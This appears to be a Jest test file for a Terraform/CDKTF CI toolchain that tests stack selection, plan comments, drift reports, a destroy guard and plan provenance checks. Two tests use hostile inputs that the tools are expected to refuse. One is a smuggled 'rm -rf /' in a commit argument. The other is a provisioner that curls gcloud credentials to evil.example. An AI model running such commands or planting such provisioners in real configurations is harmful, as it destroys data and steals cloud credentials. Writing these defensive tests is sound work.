// The command lines the workflows and the docs use, run as built (dist/).
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { planDigest } from '../../lib/ci/plan-digest';
import { renderPlanComment } from '../../lib/ci/plan-comment';
import { REPO_ROOT } from '../helpers';
import { fixture, fixturePath } from './plan-fixtures';

const SYNTH = join(__dirname, 'fixtures', 'synth');

function run(bin: string, args: string[]) {
  const result = spawnSync(process.execPath, [join(REPO_ROOT, 'dist', 'bin', `${bin}.js`), ...args], { cwd: REPO_ROOT, encoding: 'utf8' });
  return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

beforeAll(() => {
  execFileSync(process.execPath, ['scripts/build.mjs'], { cwd: REPO_ROOT });
}, 60_000);

describe('changed-stacks', () => {
  it('prints the JSON list of stacks CI plans and reports each change on stderr', () => {
    const { code, stdout, stderr } = run('changed-stacks', ['--base', join(SYNTH, 'base'), '--head', join(SYNTH, 'head')]);
    expect(code).toBe(0);
    expect(JSON.parse(stdout)).toEqual(['service-legacy-development', 'service-orders-development', 'service-payment-development', 'service-payment-production']);
    expect(stderr).toContain('bootstrap: changed (local state: not planned in CI');
    expect(stderr).toContain('service-legacy-development: removed');
  });

  it('writes the matrices to --github-output', () => {
    const output = join(mkdtempSync(join(tmpdir(), 'gh-out-')), 'output');
    writeFileSync(output, '');
    const { code } = run('changed-stacks', ['--base', join(SYNTH, 'base'), '--head', join(SYNTH, 'head'), '--github-output', output]);
    expect(code).toBe(0);
    const lines = Object.fromEntries(readFileSync(output, 'utf8').trim().split('\n').map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
    expect(lines.platform).toBe('false');
    expect(JSON.parse(lines.services_matrix)).toContainEqual({
      stack: 'service-payment-production',
      environment: 'production',
      removed: false,
      added: false,
      state: 'gs://acme-terraform-state/stacks/service-payment-production/default.tfstate',
    });
    expect(JSON.parse(lines.local)).toEqual(['bootstrap']);
  });

  it('keeps one stack with --only, and fails naming it when it did not change', () => {
    const base = join(SYNTH, 'base');
    const head = join(SYNTH, 'head');
    expect(JSON.parse(run('changed-stacks', ['--base', base, '--head', head, '--only', 'service-payment-production']).stdout)).toEqual(['service-payment-production']);
    const missing = run('changed-stacks', ['--base', base, '--head', head, '--only', 'platform']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('--only platform: no such stack among the changed stacks');
  });

  it('keeps the stacks of the day with --drift-day: production daily, the others on their rotation day, and prints the count', () => {
    const empty = mkdtempSync(join(tmpdir(), 'empty-'));
    const all: string[] = JSON.parse(run('changed-stacks', ['--base', empty, '--head', join(SYNTH, 'head')]).stdout);
    const seen = new Set<string>();
    for (let d = 1; d <= 7; d++) {
      const { code, stdout, stderr } = run('changed-stacks', ['--base', empty, '--head', join(SYNTH, 'head'), '--drift-day', `2026-12-0${d}`]);
      expect(code).toBe(0);
      const today: string[] = JSON.parse(stdout);
      expect(today).toContain('service-payment-production');
      expect(stderr).toMatch(new RegExp(`^drift 2026-12-0${d}: ${today.length} of ${all.length} stacks planned today: \\d+ production \\(daily\\)`, 'm'));
      today.forEach((s) => seen.add(s));
    }
    expect([...seen].sort()).toEqual([...all].sort());
    const bad = run('changed-stacks', ['--base', empty, '--head', join(SYNTH, 'head'), '--drift-day', 'monday']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--drift-day monday: expected a date YYYY-MM-DD');
  });

  it('exits 2 with the usage on bad arguments', () => {
    const { code, stderr } = run('changed-stacks', ['--base', join(SYNTH, 'base')]);
    expect(code).toBe(2);
    expect(stderr).toContain('--base and --head are required');
    expect(stderr).toContain('usage: npm run changed-stacks -- --base <synth-dir> --head <synth-dir>');
  });

  it('groups the stacks into at most --max-jobs shards, and refuses a bad number', () => {
    const output = join(mkdtempSync(join(tmpdir(), 'gh-out-')), 'output');
    writeFileSync(output, '');
    const empty = mkdtempSync(join(tmpdir(), 'synth-empty-'));
    expect(run('changed-stacks', ['--base', empty, '--head', join(SYNTH, 'head'), '--github-output', output, '--max-jobs', '2']).code).toBe(0);
    const shards = JSON.parse(readFileSync(output, 'utf8').split('\n').find((l) => l.startsWith('shards='))!.slice('shards='.length));
    expect(shards).toHaveLength(2);
    expect(shards.flatMap((s: { stacks: { stack: string }[] }) => s.stacks.map((e) => e.stack))).toHaveLength(5);
    const bad = run('changed-stacks', ['--base', empty, '--head', join(SYNTH, 'head'), '--max-jobs', '300']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("--max-jobs 300: expected a whole number from 1 to 256 (GitHub's matrix limit)");
  });

  it('runs as documented: npm run changed-stacks -- --base <dir> --head <dir>', () => {
    const result = spawnSync('npm', ['run', '--silent', 'changed-stacks', '--', '--base', join(SYNTH, 'base'), '--head', join(SYNTH, 'head')], { cwd: REPO_ROOT, encoding: 'utf8' });
    expect(result.status).toBe(0);
    expect(JSON.parse(result.stdout)).toHaveLength(4);
  }, 60_000);
});

describe('plan-comment', () => {
  it('prints the Markdown comment for the stack', () => {
    const { code, stdout } = run('plan-comment', ['--stack', 'service-checkout-production', fixturePath('new-service')]);
    expect(code).toBe(0);
    expect(stdout).toBe(renderPlanComment(fixture('new-service'), { stack: 'service-checkout-production' }));
  });

  it('prints only the digest with --digest', () => {
    expect(run('plan-comment', ['--stack', 'x', fixturePath('new-service'), '--digest']).stdout.trim()).toBe(planDigest(fixture('new-service')));
  });

  it('verifies against the trusted plan run\'s record for the merged pull request and its head commit', () => {
    const dir = mkdtempSync(join(tmpdir(), 'record-'));
    const record = join(dir, 'digests.json');
    const head = 'a'.repeat(40);
    writeFileSync(record, JSON.stringify({ pullRequest: 7, headSha: head, synthRunId: 1, planRunId: 2, stacks: { platform: planDigest(fixture('new-service')) } }));
    const args = (plan: Parameters<typeof fixturePath>[0], pr = '7', sha = head) => ['--stack', 'platform', fixturePath(plan), '--verify-record', record, '--pull-request', pr, '--head-sha', sha];
    const ok = run('plan-comment', args('new-service'));
    expect(ok.code).toBe(0);
    expect(ok.stdout).toContain('is the plan reviewed in the trusted plan run 2 of pull request #7');
    const stale = run('plan-comment', args('replace-database'));
    expect(stale.code).toBe(1);
    expect(stale.stderr).toContain('differs from the plan reviewed in the trusted plan run 2 of pull request #7');
    // A record of another pull request or commit is never used.
    const other = run('plan-comment', args('new-service', '8'));
    expect(other.code).toBe(2);
    expect(other.stderr).toContain('are of pull request #7 at aaaaaaa');
    const missing = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-record', join(dir, 'none.json'), '--pull-request', '7', '--head-sha', head]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('No reviewed plan for stack platform');
  });

  it('verifies a digest typed in for a run by hand', () => {
    const digest = planDigest(fixture('new-service'));
    expect(run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-digest', digest]).code).toBe(0);
    expect(run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-digest', 'none']).code).toBe(1);
  });

  it('names the planned commit (short) and the run when given, and nothing of them otherwise', () => {
    const sha = '0123456789abcdef0123456789abcdef01234567';
    const url = 'https://github.com/acme/infra/actions/runs/42';
    const { code, stdout } = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--commit', sha, '--run-url', url]);
    expect(code).toBe(0);
    expect(stdout).toContain(`<sub>Planned from commit \`0123456\`, [workflow run](${url})</sub>`);
    expect(stdout).not.toContain(sha);
    expect(run('plan-comment', ['--stack', 'platform', fixturePath('new-service')]).stdout).not.toContain('Planned from');
    const bad = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--commit', 'main; rm -rf /']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--commit main; rm -rf /: expected a commit SHA');
  });

  it('exits 2 with a message, not a stack trace, on unknown actions', () => {
    const dir = mkdtempSync(join(tmpdir(), 'plan-'));
    const file = join(dir, 'plan.json');
    const change = (address: string, actions: string[]) => ({ address, mode: 'managed', type: 'google_project', name: 'p', change: { actions } });
    writeFileSync(file, JSON.stringify({ format_version: '1.2', resource_changes: [change('google_project.a', ['create', 'forget']), change('google_project.b', ['explode'])] }));
    for (const bin of ['plan-comment', 'destroy-guard']) {
      const { code, stderr } = run(bin, bin === 'plan-comment' ? ['--stack', 'platform', file] : [file]);
      expect(code).toBe(2);
      expect(stderr).toContain(`${file} is not a plan this tool understands`);
      expect(stderr).toContain('(google_project.a).change.actions: unknown action combination [create, forget]; known:');
      expect(stderr).toContain('(google_project.b).change.actions: unknown action "explode"');
      expect(stderr).not.toMatch(/\n\s+at /);
    }
  });

  it('exits 2 with a message, not a stack trace, on a malformed record', () => {
    const dir = mkdtempSync(join(tmpdir(), 'record-'));
    for (const text of ['[not json', '{"pullRequest": 7}', JSON.stringify({ pullRequest: 7, headSha: 'a'.repeat(40), synthRunId: 1, planRunId: 2, stacks: { platform: 'LGTM' } })]) {
      const file = join(dir, 'digests.json');
      writeFileSync(file, text);
      const { code, stderr } = run('plan-comment', ['--stack', 'platform', fixturePath('new-service'), '--verify-record', file, '--pull-request', '7', '--head-sha', 'a'.repeat(40)]);
      expect({ text, code }).toEqual({ text, code: 2 });
      expect(stderr).toContain('digests.json');
      expect(stderr).not.toMatch(/\n\s+at /);
    }
  });

  it('exits 2 naming the file when the plan cannot be read', () => {
    const { code, stderr } = run('plan-comment', ['--stack', 'platform', '/nonexistent/plan.json']);
    expect(code).toBe(2);
    expect(stderr).toContain('/nonexistent/plan.json: file not found');
  });
});

describe('drift-report', () => {
  it('prints the report and exits 1 when a stack of the run has no result, naming it', () => {
    const dir = mkdtempSync(join(tmpdir(), 'results-'));
    writeFileSync(join(dir, 'platform.tsv'), 'clean\tplatform: no drift\n');
    const { code, stdout, stderr } = run('drift-report', ['--stacks', '["platform","service-a-production"]', '--results', dir]);
    expect(code).toBe(1);
    expect(stdout).toContain('No result from: `service-a-production`.');
    expect(stderr).toContain('no result from 1 stack(s): service-a-production');
  });

  it('exits 0 when every stack is clean, 2 on a bad --stacks', () => {
    const dir = mkdtempSync(join(tmpdir(), 'results-'));
    writeFileSync(join(dir, 'platform.tsv'), 'clean\tplatform: no drift\n');
    expect(run('drift-report', ['--stacks', '["platform"]', '--results', dir]).code).toBe(0);
    const bad = run('drift-report', ['--stacks', 'platform', '--results', dir]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('--stacks: not JSON');
  });
});

describe('destroy-guard', () => {
  it('exits 1 naming the protected addresses a plan deletes or replaces', () => {
    const { code, stderr } = run('destroy-guard', [fixturePath('replace-database')]);
    expect(code).toBe(1);
    expect(stderr).toContain('google_sql_database_instance.CloudSql_Instance_5E6F7A8B (Cloud SQL instance): replace');
    expect(stderr).toContain('google_container_node_pool.NodePools_highmem_NodePool_0A1B2C3D (GKE node pool): replace');
  });

  it('exits 0 with --allow-destroy, still naming them', () => {
    const { code, stdout } = run('destroy-guard', [fixturePath('delete-protected'), '--allow-destroy']);
    expect(code).toBe(0);
    expect(stdout).toContain('google_storage_bucket.BackupBucket_6B752926 (bucket): delete');
  });

  it('exits 0 when nothing protected is destroyed', () => {
    const { code, stdout } = run('destroy-guard', [fixturePath('new-service')]);
    expect(code).toBe(0);
    expect(stdout).toContain('no protected resource is deleted or replaced');
  });

  it('exits 2 on an unknown option', () => {
    const { code, stderr } = run('destroy-guard', [fixturePath('new-service'), '--allow-destroys']);
    expect(code).toBe(2);
    expect(stderr).toContain('usage: npm run destroy-guard -- <plan.json> [--allow-destroy]');
  });
});

describe('check-stacks', () => {
  const synth = (dir: string) => execFileSync(process.execPath, [join(REPO_ROOT, 'dist', 'bin', 'main.js')], { cwd: REPO_ROOT, env: { ...process.env, CDKTF_OUTDIR: dir }, encoding: 'utf8' });

  it('passes our own synthesized stacks and copies them; refuses a hostile one with a report, writing nothing', () => {
    const out = mkdtempSync(join(tmpdir(), 'synth-'));
    synth(out);
    const checked = join(mkdtempSync(join(tmpdir(), 'checked-')), 'out');
    const ok = run('check-stacks', ['--synth', out, '--out', checked]);
    expect(ok.code).toBe(0);
    expect(ok.stdout).toMatch(/^\d+ stacks passed the allowlist: .*\bplatform, .*\bservice-payment-development\b/);
    const file = join(out, 'stacks', 'service-search-production', 'cdk.tf.json');
    const config = JSON.parse(readFileSync(file, 'utf8'));
    config.resource.null_resource = { pwn: { provisioner: [{ 'local-exec': { command: 'curl https://evil.example/$(cat ~/.config/gcloud/*)' } }] } };
    writeFileSync(file, JSON.stringify(config));
    const report = join(out, 'refused.md');
    const refused = run('check-stacks', ['--synth', out, '--out', join(mkdtempSync(join(tmpdir(), 'checked-')), 'out'), '--report', report]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('service-search-production: resource type "null_resource" is not one our constructs emit');
    expect(refused.stderr).toContain('service-search-production: resource.null_resource.pwn.provisioner: provisioners and connections are refused');
    expect(readFileSync(report, 'utf8')).toMatch(/^<!-- plan:refused -->\n### Plan refused/);
  }, 60_000);
});

describe('plan-provenance record', () => {
  it('writes the record the apply job reads, refusing what it would refuse to read', () => {
    const dir = mkdtempSync(join(tmpdir(), 'digests-'));
    const digest = planDigest(fixture('new-service'));
    writeFileSync(join(dir, 'platform.digest'), `${digest}\n`);
    const out = join(dir, 'digests.json');
    const head = 'b'.repeat(40);
    const ok = run('plan-provenance', ['record', '--pull-request', '5', '--head-sha', head, '--synth-run', '10', '--plan-run', '11', '--digests', dir, '--out', out]);
    expect(ok.code).toBe(0);
    expect(JSON.parse(readFileSync(out, 'utf8'))).toEqual({ pullRequest: 5, headSha: head, synthRunId: 10, planRunId: 11, stacks: { platform: digest } });
    writeFileSync(join(dir, 'evil.digest'), 'LGTM');
    const bad = run('plan-provenance', ['record', '--pull-request', '5', '--head-sha', head, '--synth-run', '10', '--plan-run', '11', '--digests', dir, '--out', join(dir, 'x.json')]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('digests.json: expected');
  });
});
